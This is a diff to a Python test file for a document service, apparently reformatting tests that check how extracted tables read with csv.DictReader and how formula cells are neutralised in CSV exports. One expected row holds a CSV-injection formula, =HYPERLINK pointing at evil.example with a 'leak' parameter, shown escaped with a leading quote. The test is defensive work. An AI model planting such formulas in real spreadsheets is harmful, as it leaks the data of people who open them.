@@ -99,7 +99,10 @@ async def test_a_sheet_with_title_notes_and_a_source_line_reads_with_csv_dictrea
             f"t = json.loads(Path('/documents/{ids['fleet.html']}/tables.json').read_text())[0]\n"
             "json.dumps(list(csv.DictReader(Path(t['path']).read_text().splitlines())))",
         )
-        assert seen == [{"Region": "Norway", "2023": "12", "2024": "14"}, {"Region": "Denmark", "2023": "7", "2024": "9"}]
+        assert seen == [
+            {"Region": "Norway", "2023": "12", "2024": "14"},
+            {"Region": "Denmark", "2023": "7", "2024": "9"},
+        ]
 
 
 async def test_formula_cells_are_neutralised_for_people_and_raw_for_code(
@@ -110,7 +113,7 @@ async def test_formula_cells_are_neutralised_for_people_and_raw_for_code(
         exported = await _read(client, f"documents:///{ids['formulas.csv']}/tables/0.csv")
         assert list(csv.reader(exported.splitlines())) == [
             ["name", "formula", "delta"],
-            ["Alice", "'=HYPERLINK(\"http://evil.example/?leak=\",\"open\")", "-3.5"],
+            ["Alice", '\'=HYPERLINK("http://evil.example/?leak=","open")', "-3.5"],
             ["'@SUM(A1)", "'+1 555 0100", "'-"],
             ["Bob", "plain", "+2"],
         ]
